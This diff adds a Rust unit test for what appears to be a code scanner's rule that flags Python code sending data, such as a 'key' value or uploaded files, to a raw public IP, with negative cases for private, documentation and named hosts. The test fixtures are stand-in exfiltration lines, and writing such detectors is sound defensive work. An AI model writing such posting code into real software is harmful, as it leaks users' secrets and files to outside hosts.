@@ -331,3 +331,27 @@ fn sinks_are_names_that_act() {
         assert!(!has_sink(src.as_bytes()), "{src}");
     }
 }
+
+#[test]
+fn data_sent_to_a_raw_public_ip() {
+    let hit = |code: &str| module(code).contains(&"py-exfil-raw-ip".to_string());
+    // Through a constant, a client opened with `with`, and one of the file's own functions.
+    // (5.6.7.8 stands for any public address; nothing here is ever run.)
+    let code = "import requests\nURL = 'http://5.6.7.8:8000/api'\ndef f(key):\n    requests.post(URL, json={'k': key})\n";
+    assert!(hit(code), "{:?}", module(code));
+    let code = "import httpx\nasync def f(p):\n    async with httpx.AsyncClient(timeout=30) as client:\n        await client.post('http://5.6.7.8/u', files={'f': p})\n";
+    assert!(hit(code), "{:?}", module(code));
+    let code = "import requests\ndef send_post(url, data):\n    return requests.post(url, json=data)\ndef g(x):\n    send_post('http://5.6.7.8:3000/n', {'f': x})\n";
+    assert!(hit(code), "{:?}", module(code));
+    // Reading from an address, private and documentation addresses, host names, and objects
+    // that are not network clients.
+    for code in [
+        "import requests\nrequests.get('http://5.6.7.8/status')\n",
+        "import requests\nrequests.post('http://192.168.1.1/api', json={})\n",
+        "import requests\nrequests.post('http://203.0.113.5/api', json={})\n",
+        "import requests\nrequests.post('https://api.example.org/v1', json={})\n",
+        "form = Form()\nform.post('http://5.6.7.8/x', data=x)\n",
+    ] {
+        assert!(!hit(code), "{code}: {:?}", module(code));
+    }
+}
